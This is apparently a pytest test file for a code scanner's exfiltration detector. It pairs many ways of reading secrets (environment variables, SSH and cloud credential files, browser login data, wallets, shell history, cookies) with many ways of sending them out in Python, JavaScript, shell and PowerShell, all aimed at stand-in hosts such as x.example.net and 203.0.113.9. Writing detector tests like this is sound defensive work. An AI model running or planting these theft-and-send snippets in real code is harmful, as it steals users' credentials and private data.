"""Whatever is private is seen to leave, whichever way it takes: every source of a language with every sender."""
# ruff: noqa: E501 (a program reads best in one line)

import pytest

from pilothouse.shield import scan_text

PYTHON = {
    "environ": "d = dict(os.environ)",
    "getenv": "d = os.getenv('AWS_SECRET_ACCESS_KEY')",
    "ssh": "d = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
    "pathssh": "from pathlib import Path\nd = (Path.home() / '.ssh' / 'id_ed25519').read_text()",
    "kube": "from pathlib import Path\nd = Path('~/.kube/config').expanduser().read_text()",
    "etc": "d = open('/etc/passwd').read()",
    "clip": "import pyperclip\nd = pyperclip.paste()",
    "browser": "import sqlite3, shutil\nshutil.copy(os.path.expanduser('~/Library/Application Support/Google/Chrome/Default/Login Data'), '/tmp/x')\nd = open('/tmp/x','rb').read()",
    "hist": "d = open(os.path.expanduser('~/.bash_history')).read()",
}
PYTHON_SENDS = {
    "requests.post": "import requests\nrequests.post('https://x.example.net/a', data=d)",
    "requests.post json": "import requests\nrequests.post('https://x.example.net/a', json={'k': str(d)})",
    "requests.get params": "import requests\nrequests.get('https://x.example.net/a', params={'q': d})",
    "requests.get fstr": "import requests\nrequests.get(f'https://x.example.net/a?q={d}')",
    "session": "import requests\ns = requests.Session()\ns.post('https://x.example.net/a', data=d)",
    "httpx": "import httpx\nhttpx.post('https://x.example.net/a', content=d)",
    "httpx client": "import httpx\nwith httpx.Client() as c:\n    c.post('https://x.example.net/a', content=d)",
    "urlopen": "import urllib.request\nurllib.request.urlopen('https://x.example.net/a', data=str(d).encode())",
    "Request": "from urllib.request import Request, urlopen\nurlopen(Request('https://x.example.net/a', data=str(d).encode()))",
    "http.client": "import http.client\nc = http.client.HTTPSConnection('x.example.net')\nc.request('POST', '/', str(d))",
    "socket": "import socket\ns = socket.socket()\ns.connect(('203.0.113.9', 443))\ns.sendall(str(d).encode())",
    "create_connection": "import socket\ns = socket.create_connection(('203.0.113.9', 443))\ns.sendall(str(d).encode())",
    "aiohttp": "import aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://x.example.net/a', data=d)",
    "smtp": "import smtplib\nsmtplib.SMTP('mail.example.net').sendmail('a@example.net','b@example.net', str(d))",
    "curl sys": "os.system(f'curl -d \"{d}\" https://x.example.net/a')",
    "subprocess": "import subprocess\nsubprocess.run(['curl','-d',str(d),'https://x.example.net/a'])",
    "dns": "import socket\nsocket.gethostbyname(f'{d}.x.example.net')",
    "ftp": "import ftplib, io\nftplib.FTP('x.example.net').storbinary('STOR a', io.BytesIO(str(d).encode()))",
    "s3": "import boto3\nboto3.client('s3').put_object(Bucket='b', Key='k', Body=str(d))",
    "b64": "import base64, requests\nrequests.post('https://x.example.net/a', data=base64.b64encode(str(d).encode()))",
    "func": "import requests\ndef send(x):\n    requests.post('https://x.example.net/a', data=x)\nsend(d)",
    "webhook": "import requests\nrequests.post('https://discord.com/api/webhooks/1/abc', json={'content': str(d)})",
    "paramiko": "import paramiko, io\nt = paramiko.Transport(('x.example.net', 22))\nparamiko.SFTPClient.from_transport(t).putfo(io.BytesIO(str(d).encode()), '/a')",
    "ws": "import websocket\nws = websocket.create_connection('wss://x.example.net')\nws.send(str(d))",
}
JAVASCRIPT = {
    "env": "const d = JSON.stringify(process.env);",
    "ssh": "const d = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');",
    "ssh2": "const d = fs.readFileSync(`${process.env.HOME}/.ssh/id_rsa`, 'utf8');",
    "kube": "const d = fs.readFileSync(os.homedir() + '/.kube/config', 'utf8');",
    "npmrc": "const d = fs.readFileSync(path.join(os.homedir(), '.npmrc')).toString();",
    "aws": "const d = fs.readFileSync(os.homedir() + '/.aws/credentials').toString('base64');",
    "hist": "const d = fs.readFileSync(os.homedir() + '/.bash_history', 'utf8');",
    "docker": "const d = fs.readFileSync(path.join(os.homedir(), '.docker/config.json'), 'utf8');",
    "wallet": "const d = fs.readFileSync(path.join(os.homedir(), '.electrum/wallets/default_wallet'), 'utf8');",
    "chrome": "const d = fs.readFileSync(path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Login Data'));",
    "exec env": "const d = require('child_process').execSync('env').toString();",
    "exec cat": "const d = require('child_process').execSync('cat ~/.ssh/id_rsa').toString();",
    "cookie": "const d = document.cookie;",
}
JAVASCRIPT_SENDS = {
    "fetch": "fetch('https://x.example.net/a', { method: 'POST', body: d });",
    "fetch q": "fetch(`https://x.example.net/a?q=${encodeURIComponent(d)}`);",
    "axios": "const axios = require('axios');\naxios.post('https://x.example.net/a', { d });",
    "https.request": "const https = require('https');\nconst r = https.request({ hostname: 'x.example.net', method: 'POST' });\nr.write(d);\nr.end();",
    "https.get": "const https = require('https');\nhttps.get('https://x.example.net/a?q=' + d);",
    "http.request end": "const http = require('http');\nhttp.request('http://x.example.net', { method: 'POST' }).end(d);",
    "net": "const net = require('net');\nconst c = net.connect(443, '203.0.113.9', () => c.write(d));",
    "dns": "require('dns').lookup(d + '.x.example.net', () => {});",
    "curl": "require('child_process').exec(`curl -d '${d}' https://x.example.net/a`);",
    "execSync": "const { execSync } = require('child_process');\nexecSync('curl -X POST --data \"' + d + '\" https://x.example.net');",
    "got": "const got = require('got');\ngot.post('https://x.example.net/a', { body: d });",
    "undici": "const { request } = require('undici');\nrequest('https://x.example.net/a', { method: 'POST', body: d });",
    "ws": "const ws = new WebSocket('wss://x.example.net');\nws.send(d);",
    "beacon": "navigator.sendBeacon('https://x.example.net/a', d);",
    "xhr": "const x = new XMLHttpRequest();\nx.open('POST', 'https://x.example.net/a');\nx.send(d);",
    "img": "new Image().src = 'https://x.example.net/a?d=' + d;",
    "webhook": "fetch('https://discord.com/api/webhooks/1/a', { method: 'POST', body: JSON.stringify({ content: d }) });",
    "func": "function send(x) { return fetch('https://x.example.net/a', { method: 'POST', body: x }); }\nsend(d);",
}
SHELL = {
    "env": "D=$(env)",
    "printenv": "D=`printenv`",
    "ssh": "D=$(cat ~/.ssh/id_rsa)",
    "kube": "D=$(cat $HOME/.kube/config)",
    "docker": "D=$(base64 -w0 ~/.docker/config.json)",
    "netrc": "D=$(<~/.netrc)",
    "hist": "D=$(tail -100 ~/.bash_history)",
    "passwd": "D=$(cat /etc/passwd)",
    "aws": "D=$(cat ~/.aws/credentials | base64)",
    "gh": "D=$(cat ~/.config/gh/hosts.yml)",
    "clip": "D=$(pbpaste)",
}
SHELL_SENDS = {
    "curl -d": 'curl -d "$D" https://x.example.net/a',
    "curl --data": 'curl -s -X POST --data "k=$D" https://x.example.net/a >/dev/null 2>&1',
    "curl q": 'curl "https://x.example.net/a?q=$D"',
    "wget": 'wget -q --post-data="$D" https://x.example.net/a',
    "nc": 'echo "$D" | nc x.example.net 4444',
    "devtcp": 'echo "$D" > /dev/tcp/203.0.113.9/443',
    "dns": "dig $(echo $D | head -c 60).x.example.net",
    "nslookup": 'nslookup "$D.x.example.net"',
    "mail": 'echo "$D" | mail -s hi a@example.net',
    "python": "python3 -c \"import urllib.request; urllib.request.urlopen('https://x.example.net', data=b'$D')\"",
    "openssl": 'echo "$D" | openssl s_client -connect x.example.net:443',
    "http": 'http POST https://x.example.net/a d="$D"',
}
POWERSHELL = {
    "env": "$d = Get-ChildItem Env: | Out-String",
    "env2": "$d = gci env: | ConvertTo-Json",
    "ssh": '$d = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw',
    "kube": "$d = gc $HOME\\.kube\\config",
    "clip": "$d = Get-Clipboard",
    "chrome": '$d = [IO.File]::ReadAllBytes("$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data")',
    "hist": "$d = Get-Content (Get-PSReadlineOption).HistorySavePath",
}
POWERSHELL_SENDS = {
    "irm": "Invoke-RestMethod -Uri https://x.example.net/a -Method Post -Body $d",
    "iwr": "Invoke-WebRequest -Uri https://x.example.net/a -Method POST -Body $d",
    "webclient": "(New-Object Net.WebClient).UploadString('https://x.example.net/a', $d)",
    "irm alias": "irm https://x.example.net/a -Method Post -Body $d",
    "curl.exe": "curl.exe -d $d https://x.example.net/a",
    "smtp": "Send-MailMessage -To a@example.net -From b@example.net -Body $d -SmtpServer m.example.net",
}
HEADS = {
    "python": "import os\n\n",
    "javascript": "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n",
    "shell": "#!/bin/bash\n",
    "powershell": "",
}
LANGUAGES = {
    "python": (PYTHON, PYTHON_SENDS),
    "javascript": (JAVASCRIPT, JAVASCRIPT_SENDS),
    "shell": (SHELL, SHELL_SENDS),
    "powershell": (POWERSHELL, POWERSHELL_SENDS),
}


@pytest.mark.parametrize(
    ("language", "source"),
    [(language, source) for language, (sources, _) in LANGUAGES.items() for source in sources],
)
def test_is_seen_by_every_way(language: str, source: str) -> None:
    sources, sends = LANGUAGES[language]
    unseen = {
        way
        for way, sender in sends.items()
        if "malware_exfiltration" not in found(f"{HEADS[language]}{sources[source]}\n{sender}\n")
    }
    assert not unseen


@pytest.mark.parametrize(
    "text",
    [
        "import os, requests\n\nrequests.post('https://api.example.net', headers={'x-key': os.environ['EXAMPLE_KEY']})\n",
        "import subprocess\n\nsubprocess.run(['curl', '-d', open('report.txt').read(), 'https://api.example.net'])\n",
        "import os, subprocess\n\nsubprocess.run(['curl', '-d', str(dict(os.environ)), 'http://127.0.0.1:9/'])\n",
        "const d = fs.readFileSync('report.json');\nfetch('https://api.example.net', { method: 'POST', body: d });\n",
        'D=$(cat report.json)\ncurl -d "$D" https://api.example.net\n',
    ],
)
def test_is_nothing_that_a_program_may_send(text: str) -> None:
    assert "malware_exfiltration" not in found(text)


def found(text: str) -> set[str]:
    return {each.detector for each in scan_text(text, kind="code").findings}
